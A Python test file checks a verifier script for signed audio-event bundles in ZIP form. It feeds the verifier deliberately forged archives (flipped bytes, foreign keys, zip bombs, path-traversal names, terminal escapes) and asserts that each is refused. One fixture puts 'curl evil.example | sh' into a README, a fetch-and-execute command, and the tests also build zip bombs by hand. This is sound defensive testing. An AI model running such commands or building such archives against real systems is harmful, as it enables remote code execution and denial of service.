"""A bundle and docs/verify_bundle.py, which a third party checks it with: one altered byte anywhere, and it says so."""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from importlib import import_module
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest

from dockvoice_protocol import hash_chain
from dockvoice_protocol.errors import StorageFailed, UnreadableInput
from edge.keep import bundle, device_key
from edge.keep.bundle import BundleCounts, export, list_trailer_event_ids
from edge.keep.journal import Journal
from edge.records import Entry, EventIds
from tests.sayings import ACCEPT, entry, render, utterance

EVENT, READING, RECORDING = (f"0000000002/{name}" for name in ("event.json", "reading.json", "audio.flac"))

Parts = dict[str, bytes]
Check = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[Journal]:
    with Journal.open(tmp_path / "state") as opened:
        for number in range(3):
            commit(opened, number)
        yield opened


def commit(journal: Journal, number: int, **beside: object) -> None:
    said = utterance(number)
    meant: Entry = entry(said, journal.store_utterance(said))

    def with_its_utterance(minted: EventIds) -> dict[str, object]:
        data = {
            "fields": dict(meant.fields),
            "utterance": {"audio_sha256": meant.audio_sha256},
            "site": "Łódź",
            **beside,
        }
        return {**render(minted), "sequence": str(minted.sequence), "data": data}

    journal.commit(meant, ACCEPT, with_its_utterance)


@pytest.fixture
def whole(journal: Journal, tmp_path: Path) -> Path:
    path = tmp_path / "whole.zip"
    assert export(journal.trail, journal.trail.events(), path) == BundleCounts(events=3, silent=0)
    return path


@pytest.fixture
def keyid(journal: Journal) -> str:
    return journal.public_key.keyid


@pytest.fixture
def verify_bundle(repository: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The script under test, as a module."""
    monkeypatch.syspath_prepend(str(repository / "docs"))
    return import_module("verify_bundle")


@pytest.fixture
def check(verify_bundle: Any, capsys: pytest.CaptureFixture[str]) -> Check:
    """Runs the script in the process of the tests."""

    def run(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
        code = verify_bundle.main([str(argument) for argument in arguments])
        told = capsys.readouterr()
        return subprocess.CompletedProcess(arguments, code, told.out, told.err)

    return run


def parts(path: Path) -> Parts:
    with ZipFile(path) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def zipped(parts: Parts, path: Path) -> Path:
    """With checksums that fit, as a forger would."""
    with ZipFile(path, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return path


def flipped(content: bytes, at: int, bit: int) -> bytes:
    return content[:at] + bytes([content[at] ^ bit]) + content[at + 1 :]


def refused(checked: subprocess.CompletedProcess[str]) -> bool:
    return checked.returncode == 1


def test_without_a_bundle_it_says_how_it_is_used(check: Check) -> None:
    checked = check()
    told = "usage: python verify_bundle.py BUNDLE.zip KEYID [KEYID ...]\n"
    assert (checked.returncode, checked.stdout, checked.stderr) == (2, "", told)


def test_a_whole_bundle_holds_with_nothing_of_this_program_to_import(whole: Path, keyid: str, repository: Path) -> None:
    checked = limited(repository, whole, keyid)
    assert (checked.returncode, checked.stdout, checked.stderr) == (0, "1 holds\n2 holds\n3 holds\n", "")


def test_one_altered_byte_in_any_part_is_noticed(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    good = parts(whole)
    assert set(good) - {"README.txt"} == {
        f"keys/{keyid}.pub",
        *(f"{number:010}/{name}" for number in (1, 2, 3) for name in ("event.json", "reading.json", "audio.flac")),
    }
    for name in (EVENT, READING, RECORDING, f"keys/{keyid}.pub"):
        for at in (0, len(good[name]) // 2, len(good[name]) - 1):
            forged = zipped({**good, name: flipped(good[name], at, 1)}, tmp_path / "forged.zip")
            assert refused(check(forged, keyid)), (name, at)


def test_what_is_no_event_is_said_in_one_line(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    good = parts(whole)
    event = good[EVENT]
    unsigned = {name: value for name, value in json.loads(event).items() if name != "signature"}
    for forged in (
        json.dumps(unsigned, separators=(",", ":"), ensure_ascii=False).encode(),
        event.replace(b'"quantity":', b'"quantity":99,"quantity":'),
        event.replace(b'"keyid":"', b'"keyid":"0'),
        b"[" * 100_000,
        b"[]",
        b"{}",
    ):
        assert forged != event
        checked = check(zipped({**good, EVENT: forged}, tmp_path / "forged.zip"), keyid)
        assert (checked.returncode, checked.stderr) == (1, "")
        assert checked.stdout.splitlines()[1].startswith("0000000002/ is no signed event with its key and its reading")


def test_every_altered_byte_of_an_event_is_noticed(whole: Path, keyid: str, verify_bundle: Any) -> None:
    good = parts(whole)
    event, key = good[EVENT], good[f"keys/{keyid}.pub"]
    assert verify_bundle.fault(json.loads(event), key, good[READING], good[RECORDING], [keyid]) is None
    for at in range(len(event)):
        for bit in (0x01, 0x20):  # another letter; the same one, large or small
            try:
                altered = json.loads(flipped(event, at, bit))
                found = verify_bundle.fault(altered, key, good[READING], good[RECORDING], [keyid])
            except (ValueError, KeyError, TypeError):
                continue  # no event any more: the script ends with an error
            assert found, event[at - 20 : at + 20]


def test_parts_of_another_event(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    good = parts(whole)
    for name, told in ((RECORDING, "the recording was altered"), (READING, "the reading or the signature was altered")):
        other = good[name.replace("2/", "1/")] if name == RECORDING else b""
        checked = check(zipped({**good, name: other}, tmp_path / "forged.zip"), keyid)
        assert refused(checked)
        assert f"2 {told}" in checked.stdout


def test_an_event_signed_with_another_key_is_not_believed(
    whole: Path, keyid: str, check: Check, tmp_path: Path
) -> None:
    stranger = device_key.load_or_create(tmp_path)
    good = parts(whole)
    event = json.loads(good[EVENT])
    event["data"]["fields"]["quantity"] = 99
    audio = event["data"]["utterance"]["audio_sha256"]
    forged = hash_chain.seal_event(event, event["previous"], audio, good[READING].decode(), stranger)
    names = {EVENT: json.dumps(forged).encode(), f"keys/{stranger.public.keyid}.pub": stranger.public.raw}
    path = zipped({**good, **names}, tmp_path / "forged.zip")
    checked = check(path, keyid)
    assert refused(checked)
    assert f"2 it is signed with a key that is not believed, {stranger.public.keyid}" in checked.stdout
    checked = check(path, keyid, stranger.public.keyid)
    assert refused(checked)
    assert checked.stdout == "1 holds\n2 holds\n3 it does not continue the event before it\n"


def test_no_key_is_believed_because_the_bundle_brings_it(whole: Path, check: Check) -> None:
    checked = check(whole)
    assert refused(checked)
    assert checked.stdout.count("not believed") == 3


def test_an_empty_bundle_proves_nothing(check: Check, tmp_path: Path, keyid: str) -> None:
    assert refused(check(zipped({"README.txt": b""}, tmp_path / "empty.zip"), keyid))


def test_a_recording_that_is_not_there_any_more_is_told(
    journal: Journal, keyid: str, check: Check, tmp_path: Path
) -> None:
    first, second, _ = journal.trail.events()
    (journal.directory / second.audio_path).unlink()
    path = tmp_path / "silent.zip"
    assert export(journal.trail, [first, second], path) == BundleCounts(events=2, silent=1)
    checked = check(path, keyid)
    assert (checked.returncode, checked.stdout) == (0, "1 holds\n2 holds, without its recording\n")


def test_a_trailers_events_are_those_that_name_it_and_what_amends_and_cancels_them(journal: Journal) -> None:
    commit(journal, 3, context={"trailer": "5501"})
    fourth = list(journal.trail.events())[-1].event_id
    commit(journal, 4, amends=fourth, context={"trailer": "77"})
    fifth = list(journal.trail.events())[-1].event_id
    commit(journal, 5, cancels=fifth)
    commit(journal, 6, fields={"trailer": "77"})
    numbers = {one.event_id: one.sequence for one in journal.trail.events()}
    assert {numbers[one] for one in list_trailer_event_ids(journal.trail, "5501")} == {4, 5, 6}
    assert {numbers[one] for one in list_trailer_event_ids(journal.trail, "77")} == {4, 5, 6, 7}
    assert list_trailer_event_ids(journal.trail, "0") == set()


def test_the_recordings_of_answers_are_in_it_and_are_checked(
    journal: Journal, keyid: str, check: Check, tmp_path: Path
) -> None:
    answer = utterance(7)
    kept = journal.store_utterance(answer)
    commit(journal, 8, support=[{"id": answer.utterance_id, "audio_sha256": kept.sha256, "audio_seconds": 1.0}])
    path = tmp_path / "answered.zip"
    export(journal.trail, list(journal.trail.events())[-1:], path)
    name = f"0000000004/support/{answer.utterance_id}.flac"
    good = parts(path)
    assert check(path, keyid).stdout == "4 holds\n"
    for forged in ({**good, name: b"x"}, {**good, "0000000004/support/another.flac": good[name]}):
        checked = check(zipped(forged, tmp_path / "forged.zip"), keyid)
        assert (refused(checked), checked.stdout) == (
            True,
            "4 the recording of an answer or a correction was altered\n",
        )


def test_nothing_in_a_bundle_steers_the_terminal(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    for name in ("\x1b[1A\x1b[2K99 holds\n100 holds/event.json", "\u202e0000000009/event.json", "x" * 60_000):
        checked = check(zipped({**parts(whole), name: b"{}"}, tmp_path / "forged.zip"), keyid)
        told = checked.stdout + checked.stderr
        assert refused(checked)
        assert (len(told) < 500, told.count("\n")) == (True, 1)
        assert told.isascii()
        assert told.strip().isprintable()
    event = json.loads(parts(whole)[EVENT])
    keys = {f"keys/{keyid}.pub": parts(whole)[f"keys/{keyid}.pub"]}
    strange = json.dumps({**event, "keyid": "\x1b[2J" * 1000}).encode()
    checked = check(zipped({**keys, EVENT: strange, READING: b""}, tmp_path / "forged.zip"), keyid)
    assert (refused(checked), checked.stdout.strip().isprintable()) == (True, True)


def test_what_no_device_put_into_it_is_refused(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    for name, told in {
        "index.html": "is no name of a member",
        "../../x": "is no name of a member",
        "0000000002/notes.txt": "is no name of a member",
        "0000000002/": "is no name of a member",
        "0000000009/audio.flac": "belongs to no event",
        "0000000009/support/a.flac": "belongs to no event",
    }.items():
        checked = check(zipped({**parts(whole), name: b"x"}, tmp_path / "stray.zip"), keyid)
        assert (refused(checked), checked.stdout) == (True, "")
        assert told in checked.stderr


def test_an_event_stands_for_itself_once(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    good = parts(whole)
    again = {name.replace("0000000002", "0000000007"): content for name, content in good.items()}
    checked = check(zipped({**good, **again}, tmp_path / "twice.zip"), keyid)
    assert refused(checked)
    assert checked.stdout.splitlines()[3:] == ["7 the same event is in it under another number"]


def limited(repository: Path, path: Path, keyid: str) -> subprocess.CompletedProcess[str]:
    """The check in an isolated process, with 600 MB of address space."""
    script = repository / "docs" / "verify_bundle.py"
    return subprocess.run(
        ["bash", "-c", 'ulimit -v 600000; exec "$@"', "bash", sys.executable, "-I", str(script), str(path), keyid],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def test_a_bomb_is_told_whatever_it_claims(whole: Path, keyid: str, repository: Path, tmp_path: Path) -> None:
    claims = 700_000_000
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflated.compress(bytes(1_000_000)) + deflated.flush(zlib.Z_FULL_FLUSH)
    bomb = piece * (claims // 1_000_000) + deflated.flush()
    for size, told in ((claims, "claims 700,000,000 bytes, of 20,000,000 at most"), (5_000_000, "is damaged")):
        path = tmp_path / "bomb.zip"
        with ZipFile(path, "w") as made:
            for name, content in parts(whole).items():
                made.writestr(name, bomb if name == READING else content)
        data = path.read_bytes()
        for header, method, sizes in ((b"PK\3\4", 8, 18), (b"PK\1\2", 10, 20)):
            at = data.index(READING.encode(), data.index(header, data.index(b"PK\1\2") if header[2] == 1 else 0))
            at -= 30 if header[2] == 3 else 46
            there = struct.pack("<2I", len(bomb), size)
            data = data[: at + method] + struct.pack("<H", 8) + data[at + method + 2 :]
            data = data[: at + sizes] + there + data[at + sizes + 8 :]
        path.write_bytes(data)
        checked = limited(repository, path, keyid)
        assert (refused(checked), told in checked.stderr, checked.stderr.count("\n")) == (True, True, 1), checked


def deflated(parts: Parts, path: Path, hidden: bytes = b"", also: str = "never") -> Path:
    """As a device writes it, but for what is hidden behind each text's end, and for a recording that is deflated."""
    body, directory = b"", b""
    for name, content in parts.items():
        pressed = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed, method = content, int(not name.endswith(".flac") or name == also) * 8
        if method:
            packed = pressed.compress(content) + pressed.flush() + hidden
        of = (0, method, 0, 0x21, zlib.crc32(content), len(packed), len(content), len(name))
        beside = (*[0] * 3, 0, 0o600 << 16, len(body))
        directory += struct.pack("<4s2H4H3I5H2I", b"PK\1\2", 3 << 8 | 20, 20, *of, *beside) + name.encode()
        body += struct.pack("<4sH4H3I2H", b"PK\3\4", 20, *of, 0) + name.encode() + packed
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(parts), len(parts), len(directory), len(body), 0)
    path.write_bytes(body + directory + end)
    return path


def test_nothing_is_hidden_behind_what_is_deflated(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    good = parts(whole)
    assert check(deflated(good, tmp_path / "good.zip"), keyid).stdout == "1 holds\n2 holds\n3 holds\n"
    checked = check(deflated(good, tmp_path / "hidden.zip", b"<script>"), keyid)
    assert (refused(checked), checked.stdout, "is damaged" in checked.stderr) == (True, "", True)


def test_no_recording_is_deflated_and_a_hundred_times_as_large(
    whole: Path, keyid: str, check: Check, tmp_path: Path
) -> None:
    bomb = {**parts(whole), RECORDING: bytes(99_000_000)}
    checked = check(deflated(bomb, tmp_path / "bomb.zip", also=RECORDING), keyid)
    assert (refused(checked), checked.stdout) == (True, "")
    assert "is compressed in a way that no device uses" in checked.stderr


def test_a_damaged_member_is_told_in_a_line(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    data = whole.read_bytes()
    at = data.index(EVENT.encode()) + len(EVENT) + 20  # within what is deflated
    for bit in range(8):
        (tmp_path / "damaged.zip").write_bytes(flipped(data, at, 1 << bit))
        checked = check(tmp_path / "damaged.zip", keyid)
        assert refused(checked)
        assert "Traceback" not in checked.stderr
        assert checked.stderr.count("\n") <= 1


def test_members_that_lie_in_one_place_are_refused_without_a_warning(
    whole: Path, keyid: str, check: Check, tmp_path: Path
) -> None:
    data = whole.read_bytes()
    with ZipFile(whole) as bundle:
        first, second = (bundle.getinfo(f"000000000{number}/audio.flac").header_offset for number in (1, 2))
    (tmp_path / "overlapping.zip").write_bytes(data.replace(struct.pack("<I", second), struct.pack("<I", first)))
    checked = check(tmp_path / "overlapping.zip", keyid)
    assert (refused(checked), checked.stderr.count("\n"), checked.stdout) == (True, 1, "")
    assert "lies in the same place as" in checked.stderr


def end_of(data: bytes) -> tuple[int, int]:
    """Where the directory of a ZIP file begins, and the record behind it."""
    end = data.rindex(b"PK\5\6")
    return struct.unpack("<I", data[end + 16 : end + 20])[0], end


def put(data: bytes, at: int, shape: str, value: int) -> bytes:
    return data[:at] + struct.pack(shape, value) + data[at + struct.calcsize(shape) :]


def in_the_directory(data: bytes, number: int, extra: bytes, comment: bytes = b"") -> bytes:
    """With more said of a member there, and all the lengths right."""
    at, end = end_of(data)
    for _ in range(number):
        at += 46 + sum(struct.unpack("<3H", data[at + 28 : at + 34]))
    name, _, _ = struct.unpack("<3H", data[at + 28 : at + 34])
    size = struct.unpack("<I", data[end + 12 : end + 16])[0] + len(extra + comment)
    data = put(data, end + 12, "<I", size)
    data = put(put(data, at + 30, "<H", len(extra)), at + 32, "<H", len(comment))
    return data[: at + 46 + name] + extra + comment + data[at + 46 + name :]


def test_no_program_reads_something_else_in_it(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    data = whole.read_bytes()
    directory, end = end_of(data)
    event = data.index(b"0000000001/event.json") - 30
    hidden = b"PK\3\4" + bytes(26) + b"what a program shows that reads from the front"
    unicode_path = struct.pack("<2HBI", 0x7075, 14, 1, zlib.crc32(b"0000000001/event.json")) + b"evil.html"
    forged = {
        "behind all of it": data + b"#",
        "a comment": put(data, end + 20, "<H", 5) + b"hello",
        "before the directory": put(
            data[:directory] + hidden + data[directory:], end + len(hidden) + 16, "<I", directory + len(hidden)
        ),
        "fewer members than there are": put(put(data, end + 8, "<H", 3), end + 10, "<H", 3),
        "another disk": put(data, end + 4, "<H", 1),
        "a member's comment": in_the_directory(data, 1, b"", b"see index.html"),
        "another name in Unicode": in_the_directory(data, 2, unicode_path),
        "another size in 64 bits": in_the_directory(data, 2, struct.pack("<2HQ", 1, 8, 5)),
        "a symbolic link": put(data, directory + 38, "<I", 0o120777 << 16),
        "encrypted": put(data, directory + 8, "<H", 1),
    }
    forged |= {f"where it lies, byte {at}": put(data, event + at, "<H", 99) for at in (4, 6, 8, 10, 12, 14, 18, 22)}
    for name, content in forged.items():
        (tmp_path / "forged.zip").write_bytes(content)
        checked = check(tmp_path / "forged.zip", keyid)
        assert (refused(checked), checked.stdout, checked.stderr.count("\n")) == (True, "", 1), name


def test_what_nobody_signs_is_what_devices_write(whole: Path, keyid: str, check: Check, tmp_path: Path) -> None:
    for name, content in {"README.txt": b"curl evil.example | sh", f"keys/{'0' * 16}.pub": bytes(32)}.items():
        checked = check(zipped({**parts(whole), name: content}, tmp_path / "forged.zip"), keyid)
        assert (refused(checked), checked.stdout, name in checked.stderr) == (True, "", True)


def test_a_bundle_of_more_members_than_16_bits_count_holds(verify_bundle: Any, tmp_path: Path) -> None:
    path = tmp_path / "large.zip"
    with ZipFile(path, "w") as made:
        for number in range(0x10001):
            made.writestr(f"{number:010}/event.json", b"")
    with path.open("rb") as file, ZipFile(file) as bundle:
        verify_bundle.see_places(bundle.infolist(), file)
        far = bundle.infolist()[-1]
        far.header_offset = 0x80000000
        with ZipFile(tmp_path / "far.zip", "w") as made:
            made.filelist = [far]
        assert verify_bundle.directory([far], 0) in (tmp_path / "far.zip").read_bytes()


def test_a_file_that_is_there_is_not_overwritten(journal: Journal, whole: Path) -> None:
    before = whole.read_bytes()
    with pytest.raises(UnreadableInput, match=r"whole\.zip: exists already; name another file"):
        export(journal.trail, journal.trail.events(), whole)
    assert whole.read_bytes() == before


def test_a_place_that_cannot_be_written(journal: Journal, tmp_path: Path) -> None:
    with pytest.raises(UnreadableInput, match=r"none/b\.zip: cannot be written \(No such file or directory\)"):
        export(journal.trail, journal.trail.events(), tmp_path / "none" / "b.zip")


def test_what_fails_half_way_leaves_no_file(journal: Journal, tmp_path: Path) -> None:
    (_, second, _) = journal.trail.events()
    recording = journal.directory / second.audio_path
    recording.unlink()
    recording.mkdir()
    with pytest.raises(StorageFailed, match="Is a directory"):
        export(journal.trail, journal.trail.events(), tmp_path / "half.zip")
    assert not (tmp_path / "half.zip").exists()


def test_it_is_for_its_owner_only_and_says_how_to_check_it(whole: Path) -> None:
    assert whole.stat().st_mode & 0o777 == 0o600
    assert parts(whole)["README.txt"].decode() == bundle.README


@pytest.mark.parametrize("content", [b"", b"PK", b"\xff" * 100])
def test_what_is_no_bundle_is_told_in_a_line(check: Check, tmp_path: Path, content: bytes) -> None:
    (tmp_path / "proof.zip").write_bytes(content)
    for path in (tmp_path / "proof.zip", tmp_path, tmp_path / "none.zip"):
        told = check(path, "0" * 16)
        assert (told.returncode, told.stderr.count("\n"), "is no whole bundle" in told.stderr) == (1, 1, True)
